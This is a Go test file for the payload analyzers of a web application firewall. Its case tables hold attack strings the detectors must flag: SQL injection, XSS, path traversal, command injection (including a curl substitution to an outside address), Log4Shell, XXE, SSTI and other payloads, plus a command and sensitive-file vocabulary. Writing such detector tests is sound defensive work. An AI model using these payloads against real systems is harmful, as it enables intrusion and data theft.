package payload

import (
	"net/http"
	"testing"
	"testing/fstest"
	"time"

	"github.com/rampartgw/rampart/detections"
	"github.com/rampartgw/rampart/detections/normalize"
)

// analyze shows value, as a field of the given kind, to one analyzer.
func analyze(a Analyzer, kind detections.FieldKind, isKey bool, name, value string) (Finding, bool) {
	f := &detections.Field{Kind: kind, IsKey: isKey, Name: name, Value: value}
	switch kind {
	case detections.FieldQuery, detections.FieldForm:
		f.URLEncoded, f.Plus = true, true
	case detections.FieldPath:
		f.URLEncoded = true
	}
	var buf normalize.Buffer
	in := Input{buf: &buf}
	in.startRequest(&detections.Request{Method: "GET", Header: http.Header{}})
	in.reset(f)
	return a.Analyze(&in)
}

type analyzerCase struct {
	name  string
	kind  detections.FieldKind
	key   bool
	value string
	rule  string // "" when the analyzer must not report
	score int    // minimum score when rule is set
}

func runAnalyzerCases(t *testing.T, a Analyzer, cases []analyzerCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			fd, ok := analyze(a, tc.kind, tc.key, "p", tc.value)
			switch {
			case tc.rule == "" && ok && fd.Score >= ScoreCritical:
				t.Errorf("%q: %s %d, want no critical finding", tc.value, fd.Rule, fd.Score)
			case tc.rule != "" && !ok:
				t.Errorf("%q: no finding, want %s", tc.value, tc.rule)
			case tc.rule != "" && (fd.Rule != tc.rule || fd.Score < tc.score):
				t.Errorf("%q: %s %d, want %s >= %d", tc.value, fd.Rule, fd.Score, tc.rule, tc.score)
			}
		})
	}
}

const (
	q    = detections.FieldQuery
	form = detections.FieldForm
	js   = detections.FieldJSON
	hdr  = detections.FieldHeader
	ck   = detections.FieldCookie
	path = detections.FieldPath
	body = detections.FieldBody
)

func TestSQLi(t *testing.T) {
	t.Parallel()
	runAnalyzerCases(t, sqliAnalyzer{}, []analyzerCase{
		{"tautology", q, false, "1' or '1'='1", RuleSQLi, ScoreCritical},
		{"numeric tautology", q, false, "1 or 1=1", RuleSQLi, ScoreCritical},
		{"union", q, false, "-1 union select 1,2,3--", RuleSQLi, ScoreCritical},
		{"encoded", q, false, "1%27%20UNION%20SELECT%20NULL--", RuleSQLi, ScoreCritical},
		{"fullwidth quote", q, false, "1＇ or ＇1＇=＇1", RuleSQLi, ScoreCritical},
		{"nul prefix", q, false, "%00' union select password from users--", RuleSQLi, ScoreCritical},
		{"grammar: operator clause", q, false, " HAVING 1=0", RuleSQLiGrammar, ScoreCritical},
		{"grammar: waitfor", q, false, "waitfor delay '00:00:05'", RuleSQLiGrammar, ScoreCritical},
		{"numeric context", q, false, "sleep(5)", RuleSQLi, ScoreCritical},
		{"O'Brien", q, false, "O'Brien", "", 0},
		{"select your plan", q, false, "select your plan", "", 0},
		{"comparison prose", q, false, "1 < 2 and 3 > 2", "", 0},
		{"privacy string", q, false, "1---", "", 0},
		{"json cookie", ck, false, `{"ads":false,"v":2}`, "", 0},
		{"user agent", hdr, false, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", "", 0},
		{"random sensor data", body, false, `2;0;4403767;3683380;7,34,0,0,1,0;+w@qqe4|m(o2mob8feh+bp+d%n?@m<geq;7=xyfi7yj-yr n+&=lpsi!.6uu/dk{y}rbxze596,rtg{o10$;ao(;ku3lb/cm,txgw%l` + "`g[ 1iv;m]znrjab8iqhjxczie(-$.1qvygkmx-i;b#[2w[v}:j;xg<qht%*+(8]^p(5ask:xk:kagl c%~rolbf1ptpo(2z`f}#{b4qdzs)e&}o$#wrr:-k!fx}$/ox,:uelik;1+n9eeanwpq0'or'", "", 0},
	})
}

func TestXSS(t *testing.T) {
	t.Parallel()
	runAnalyzerCases(t, xssAnalyzer{}, []analyzerCase{
		{"script", q, false, "<script>alert(1)</script>", RuleXSS, ScoreCritical},
		{"event handler", q, false, "<img src=x onerror=prompt(1)>", RuleXSS, ScoreCritical},
		{"unknown event", q, false, "<x onbeforeactivate=alert(1)>", RuleXSS, ScoreCritical},
		{"attribute breakout", q, false, `" onmouseover="alert(1)`, RuleXSS, ScoreCritical},
		{"script url", q, false, "javascript:alert(1)", RuleXSSScheme, ScoreCritical},
		{"script url with a comment", q, false, "javascript://%0aalert(1)", RuleXSSScheme, ScoreCritical},
		{"computed call", q, false, "javascript:window[/alert/.source]()", RuleXSSScheme, ScoreCritical},
		{"string breakout", q, false, `";alert(1)//`, RuleXSSScript, ScoreCritical},
		{"eval of atob", q, false, "eval(atob('YWxlcnQoMSk='))", RuleXSSScript, ScoreCritical},
		{"nul inside the tag", q, false, "<scr%00ipt>alert(1)</scr%00ipt>", RuleXSS, ScoreCritical},
		{"price", q, false, "<$20", "", 0},
		{"comparison", q, false, "1 < 2 and 3 > 2", "", 0},
		{"styled html", js, false, `<div style="color:red">Sale</div>`, "", 0},
		{"void placeholder", js, false, "javascript:void(0)", "", 0},
		{"sdk version", js, false, "javascript:3.2.2", "", 0},
		{"object in an error message", js, false, "Cannot read properties of '#<Object>'", "", 0},
		{"markdown", form, false, "**bold** _it_ [link](https://example.com) > quote", "", 0},
	})
}

func TestTraversal(t *testing.T) {
	t.Parallel()
	runAnalyzerCases(t, traversalAnalyzer{}, []analyzerCase{
		{"etc passwd", q, false, "../../../etc/passwd", RuleTraversalFile, ScoreCritical},
		{"absolute", q, false, "/etc/passwd", RuleTraversalFile, ScoreCritical},
		{"windows", q, false, `c:\windows\win.ini`, RuleTraversalFile, ScoreCritical},
		{"double encoded", q, false, "%252e%252e%252fetc%252fshadow", RuleTraversalFile, ScoreCritical},
		{"iis separators", q, false, "..%c0%af..%c1%9c..%c0%9v..%c0%qfboot.ini", RuleTraversalFile, ScoreCritical},
		{"hex spelling", q, false, "0x2e0x2e0x2fetc0x2fpasswd", RuleTraversalFile, ScoreCritical},
		{"unicode slash", q, false, "..%u2215..%u2215etc%u2215hosts", RuleTraversalFile, ScoreCritical},
		{"three climbs", q, false, "../../../a", RuleTraversal, ScoreCritical},
		{"log after a climb", q, false, "../logs/access.log", RuleTraversalFile, ScoreCritical},
		{"one climb is weak", q, false, "../a", RuleTraversal, ScoreWarning},
		{"log without a climb", q, false, "logs/access.log", "", 0},
		{"url", q, false, "https://example.com/etc/x", "", 0},
		{"date", q, false, "2024/01/02", "", 0},
		{"ellipsis", q, false, "and so on...", "", 0},
	})
}

func TestCmdi(t *testing.T) {
	t.Parallel()
	runAnalyzerCases(t, cmdiAnalyzer{}, []analyzerCase{
		{"semicolon id", q, false, "x;id", RuleCmdi, ScoreCritical},
		{"pipe with args", q, false, "x | ls -la /", RuleCmdi, ScoreCritical},
		{"substitution", q, false, "$(curl http://198.51.100.1/x)", RuleCmdi, ScoreCritical},
		{"backticks", q, false, "`id`", RuleCmdi, ScoreCritical},
		{"ifs", q, false, "a;cat$IFS/etc/passwd", RuleCmdi, ScoreCritical},
		{"quotes in the command", q, false, "a;c'a't /etc/passwd", RuleCmdi, ScoreCritical},
		{"backslash in the command", q, false, `a;c\at /etc/passwd`, RuleCmdi, ScoreCritical},
		{"full path", q, false, "a && /usr/bin/whoami", RuleCmdi, ScoreCritical},
		{"windows", q, false, "a & type c:\\boot.ini", RuleCmdi, ScoreCritical},
		{"php tag", q, false, "<?php echo shell_exec($_GET['x']); ?>", RuleCodeInjection, ScoreCritical},
		{"prose after a semicolon", q, false, "hello; time he came", "", 0},
		{"prose with a weak command", q, false, "tom & jerry; more than ever", "", 0},
		{"rm is a command", q, false, "rm -rf is a command", "", 0},
		{"graphql", js, false, "query {\n  user {\n    id\n    name\n  }\n}", "", 0},
		{"delimited record", q, false, "a|b|id|ps|c|d", "", 0},
		{"xml declaration", q, false, `<?xml version="1.0"?>`, "", 0},
	})
}

func TestSSRF(t *testing.T) {
	t.Parallel()
	a := newSSRFAnalyzer([]string{"billing.internal", ".corp.example", "10.1.0.0/16", "192.168.7.7"})
	runAnalyzerCases(t, a, []analyzerCase{
		{"metadata", q, false, "http://169.254.169.254/latest/", RuleSSRFMetadata, ScoreCritical},
		{"decimal", q, false, "http://2852039166/", RuleSSRFMetadata, ScoreCritical},
		{"loopback", q, false, "http://127.0.0.1/", RuleSSRF, ScoreCritical},
		{"mapped", q, false, "http://[::ffff:7f00:1]/", RuleSSRF, ScoreCritical},
		{"backslash trick", q, false, `http://example.com\@127.0.0.1/`, RuleSSRF, ScoreCritical},
		{"private plain", q, false, "http://10.0.0.5/", RuleSSRF, ScoreError},
		{"private obfuscated", q, false, "http://10.1/", RuleSSRF, ScoreCritical},
		{"dashed wildcard dns", q, false, "http://a-127-0-0-1.sslip.io/", RuleSSRF, ScoreCritical},
		{"allowed name", q, false, "http://billing.internal/hook", "", 0},
		{"allowed suffix", q, false, "http://api.corp.example/", "", 0},
		{"allowed prefix", q, false, "http://10.1.2.3/", "", 0},
		{"allowed address", q, false, "http://192.168.7.7/", "", 0},
		{"public", q, false, "https://example.com/x?u=127.0.0.1", "", 0},
		{"not an url", q, false, "127.0.0.1", "", 0},
		{"referer is not fetched", hdr, false, "http://localhost/", "", 0},
	})
}

func TestSpecificAnalyzers(t *testing.T) {
	t.Parallel()
	t.Run("log4shell", func(t *testing.T) {
		runAnalyzerCases(t, log4shellAnalyzer{}, []analyzerCase{
			{"jndi", hdr, false, "${jndi:ldap://x/a}", RuleLog4Shell, ScoreCritical},
			{"upper", q, false, "${${upper:j}ndi:rmi://x/a}", RuleLog4Shell, ScoreCritical},
			{"long value", body, false, string(make([]byte, 600)) + "${${::-j}ndi:x}", RuleLog4Shell, ScoreCritical},
			{"macro", q, false, "${AD_ID}", "", 0},
		})
	})
	t.Run("shellshock", func(t *testing.T) {
		runAnalyzerCases(t, shellshockAnalyzer{}, []analyzerCase{
			{"classic", hdr, false, "() { :; }; echo x", RuleShellshock, ScoreCritical},
			{"no space", hdr, false, "(){ :;};id", RuleShellshock, ScoreCritical},
			{"js", js, false, "function() { }", "", 0},
		})
	})
	t.Run("xxe", func(t *testing.T) {
		runAnalyzerCases(t, xxeAnalyzer{}, []analyzerCase{
			{"system entity", body, false, `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>`, RuleXXE, ScoreCritical},
			{"internal entity only", body, false, `<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>`, RuleXXE, ScoreError},
			{"html5 legacy doctype", body, false, `<!DOCTYPE html SYSTEM "about:legacy-compat"><html/>`, "", 0},
		})
	})
	t.Run("ssti", func(t *testing.T) {
		runAnalyzerCases(t, sstiAnalyzer{}, []analyzerCase{
			{"probe", q, false, "{{7*'7'}}", RuleSSTI, ScoreCritical},
			{"bare dunder", q, false, "{''.__class__}", RuleSSTI, ScoreCritical},
			{"macro", q, false, "{{CLICK_URL}}", "", 0},
			{"json", js, false, `{"a":[1,2]}`, "", 0},
		})
	})
	t.Run("nosqli", func(t *testing.T) {
		runAnalyzerCases(t, nosqliAnalyzer{}, []analyzerCase{
			{"query key", q, true, "pass[$ne]", RuleNoSQLi, ScoreCritical},
			{"dotted key", form, true, "user.$gt", RuleNoSQLi, ScoreCritical},
			{"json where", js, true, "$where", RuleNoSQLi, ScoreCritical},
			{"json filter operator", js, true, "$lt", "", 0},
			{"value object", q, false, `{"$regex": ".*"}`, RuleNoSQLi, ScoreCritical},
			{"price", q, false, "$20 {cheap}", "", 0},
		})
	})
	t.Run("proto_pollution", func(t *testing.T) {
		runAnalyzerCases(t, protoPollutionAnalyzer{}, []analyzerCase{
			{"key", q, true, "__proto__[x]", RuleProtoPollution, ScoreCritical},
			{"dotted", q, true, "constructor.prototype.x", RuleProtoPollution, ScoreCritical},
			{"value", js, false, "constructor", "", 0},
		})
	})
	t.Run("crlf", func(t *testing.T) {
		runAnalyzerCases(t, crlfAnalyzer{}, []analyzerCase{
			{"query", q, false, "a%0d%0aX-Foo: bar", RuleCRLF, ScoreCritical},
			{"entities", form, false, "a&#13;&#10;Set-Cookie: x=1", RuleCRLF, ScoreCritical},
			{"request line", q, false, "GET http://example.com/ HTTP/1.1", RuleCRLFRequest, ScoreCritical},
			{"textarea", form, false, "Dear team,\nNote: thanks", "", 0},
		})
	})
	t.Run("ldapi", func(t *testing.T) {
		runAnalyzerCases(t, ldapiAnalyzer{}, []analyzerCase{
			{"classic", q, false, "*)(cn=*", RuleLDAPi, ScoreCritical},
			{"not", q, false, "x)!(sn=*", RuleLDAPi, ScoreCritical},
			{"prose", q, false, "fries (large) (salted)", "", 0},
		})
	})
}

func TestProtocolEncoding(t *testing.T) {
	t.Parallel()
	runAnalyzerCases(t, encodingAnalyzer{}, []analyzerCase{
		{"nul", q, false, "a%00b", RuleProtocolEncoding, ScoreCritical},
		{"overlong", q, false, "%c0%ae", RuleProtocolEncoding, ScoreCritical},
		{"fullwidth", q, false, "%uFF1C", RuleProtocolEncoding, ScoreCritical},
		{"escaped letter", q, false, `\x61lert`, RuleProtocolEncoding, ScoreCritical},
		{"latin-1", q, false, "m%FCnchen", "", 0},
		{"json escape of markup", q, false, `{"h":"\u003cb\u003e"}`, "", 0},
	})
}

func TestProtocolRequest(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, method string
		header       http.Header
		body         string
		rule         string
	}{
		{"get", "GET", http.Header{"Accept": {"*/*"}}, "", ""},
		{"connect", "CONNECT", nil, "", RuleProtocolMethod},
		{"bad method", "G|ET", nil, "", RuleProtocolMethod},
		{"ognl content type", "POST", http.Header{"Content-Type": {"%{#context}"}}, "x", RuleProtocolContentType},
		{"quoted boundary", "POST", http.Header{"Content-Type": {`multipart/form-data; boundary="a b:c"`}}, "x", ""},
		{"unknown charset", "POST", http.Header{"Content-Type": {"text/plain; charset=utf-88"}}, "x", RuleProtocolCharset},
		{"charset without a body", "GET", http.Header{"Content-Type": {"text/plain; charset=whatever"}}, "", ""},
		{"too many ranges", "GET", http.Header{"Range": {"bytes=" + repeatRanges(60)}}, "", RuleProtocolRange},
		{"long accept-encoding", "GET", http.Header{"Accept-Encoding": {string(make([]byte, 101))}}, "", RuleProtocolHeader},
		{"content-encoding without a body", "GET", http.Header{"Content-Encoding": {"gzip"}}, "", RuleProtocolHeader},
		{"gzip upload", "POST", http.Header{"Content-Encoding": {"gzip"}, "Content-Type": {"application/json"}}, "\x1f\x8b", ""},
		{"empty user agent is weak", "GET", http.Header{"User-Agent": {""}}, "", RuleProtocolHeader},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := tc.header
			if h == nil {
				h = http.Header{}
			}
			r := &detections.Request{Method: tc.method, Header: h, Path: "/", RawPath: "/"}
			if tc.body != "" {
				r.Body = []byte(tc.body)
			}
			fd, ok := protocolAnalyzer{maxParts: 256}.AnalyzeRequest(r)
			if tc.rule == "" && ok {
				t.Errorf("%s %d, want nothing", fd.Rule, fd.Score)
			}
			if tc.rule != "" && fd.Rule != tc.rule {
				t.Errorf("%q (ok=%v), want %s", fd.Rule, ok, tc.rule)
			}
		})
	}
}

func repeatRanges(n int) string {
	s := "0-1"
	for i := 1; i < n; i++ {
		s += ",2-3"
	}
	return s
}

func TestBase64Analyzer(t *testing.T) {
	t.Parallel()
	runAnalyzerCases(t, newBase64Analyzer(), []analyzerCase{
		{"script", q, false, "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", RuleXSS, ScoreCritical},
		{"plus kept in a query", q, false, "Li4vLi4vLi4vZXRjL3Bhc3N3ZA+", RuleTraversalFile, ScoreCritical},
		{"telemetry json", q, false, "eyJwYWdlIjoiaHR0cHM6Ly9leGFtcGxlLmNvbS8iLCJ0Ijo1fQ==", "", 0},
	})
}

func TestInputForms(t *testing.T) {
	t.Parallel()
	var buf normalize.Buffer
	in := Input{buf: &buf}
	in.startRequest(&detections.Request{Header: http.Header{}})
	f := &detections.Field{Kind: q, Value: "%3CScript%3E+x", URLEncoded: true, Plus: true}
	in.reset(f)
	if got := string(in.Decoded()); got != "<Script> x" {
		t.Errorf("Decoded = %q", got)
	}
	if got := string(in.Folded()); got != "<script> x" {
		t.Errorf("Folded = %q", got)
	}
	if !in.Has(clsLT) || in.Has(clsDollar) {
		t.Errorf("Classes = %b", in.Classes())
	}
	in.reset(&detections.Field{Kind: body, Value: string(make([]byte, 300))})
	if !in.Binary() {
		t.Error("300 NULs are not binary")
	}
}

// TestPathologicalInputs shows every analyzer large values built to make
// a naive scanner quadratic; each must finish quickly.
func TestPathologicalInputs(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	const n = normalize.MaxInput
	rep := func(s string) string {
		b := make([]byte, 0, n)
		for len(b) < n {
			b = append(b, s...)
		}
		return string(b)
	}
	inputs := []string{
		rep("("), rep(")("), rep("${"), rep("${a:-"), rep("'"), rep("' or "), rep("../"), rep("..%c0%af"),
		rep("<a "), rep("<"), rep("on"), rep("a=b "), rep(";id"), rep("|"), rep("`"), rep("$("), rep("\r\n"),
		rep("{{"), rep("{"), rep("<!ENTITY "), rep("%25"), rep("&#x3c;"), rep("\\u003c"), rep("0x2e"),
		rep("http://"), rep("unix:"), rep("select "), rep("/*"), rep("javascript:"), rep("script:"), rep("\""),
		rep("a)(b="), rep("get / http/1.1 "), rep("ＡＢＣ"), rep("é"), rep("\xc0"),
	}
	var buf normalize.Buffer
	in := Input{buf: &buf}
	xml := rep(`<a x="1&#13;&#10;">t&amp;</a>`)
	in.startRequest(&detections.Request{Header: http.Header{}, Body: []byte(xml)})
	for _, a := range builtins(DefaultConfig()) {
		// An XML body: every text node and attribute goes through Sub.
		in.reset(&detections.Field{Kind: body, Value: xml, ContentType: "application/xml"})
		start := time.Now()
		a.Analyze(&in)
		if el := time.Since(start); el > time.Second {
			t.Errorf("%s on an XML body took %v", a.Name(), el)
		}
		for i, v := range inputs {
			for _, kind := range []detections.FieldKind{q, body} {
				f := &detections.Field{Kind: kind, Value: v, URLEncoded: kind == q, Plus: kind == q}
				in.reset(f)
				start := time.Now()
				a.Analyze(&in)
				if el := time.Since(start); el > time.Second {
					t.Errorf("%s on input %d (%q...) as %v took %v", a.Name(), i, v[:8], kind, el)
				}
			}
		}
	}
}

// TestVocabulary: the Core Rule Set's lists load from the embedded module,
// and the curated classes win over the list's.
func TestVocabulary(t *testing.T) {
	t.Parallel()
	v, err := loadVocabulary()
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		n    int
		min  int
	}{
		{"commands", len(v.commands), 500}, {"cmdlets", len(v.cmdlets), 300}, {"php functions", len(v.phpFunctions), 200},
		{"php variables", len(v.phpVariables), 15}, {"java classes", len(v.javaClasses), 50},
		{"url files", v.urlFiles.len(), 300}, {"path files", v.pathFiles.len(), 700}, {"upload names", v.uploadNames.len(), 200},
	} {
		if tc.n < tc.min {
			t.Errorf("%s: %d entries, want at least %d", tc.name, tc.n, tc.min)
		}
	}
	for w, want := range map[string]cmdClass{"whoami": cmdStrong, "more": cmdWeak, "tcpdump": cmdVocab, "get": cmdNone, "at": cmdNone} {
		if got := v.commands[w]; got != want {
			t.Errorf("command %q: class %d, want %d", w, got, want)
		}
	}
	if !v.cmdlets["invoke-webrequest"] || !v.cmdlets["set-mppreference"] {
		t.Error("cmdlets missing")
	}
	for _, tc := range []struct {
		path string
		want bool
	}{{"/.git/config", true}, {"/a/.env", true}, {"/myconfig.php", false}, {"/.environment", false}, {"/db.sql.gz", true}} {
		if _, got := v.urlFiles.match([]byte(tc.path)); got != tc.want {
			t.Errorf("urlFiles.match(%q) = %v", tc.path, got)
		}
	}
	if _, err := readVocabulary(fstest.MapFS{}); err == nil {
		t.Error("an empty file system gave a vocabulary")
	}
}
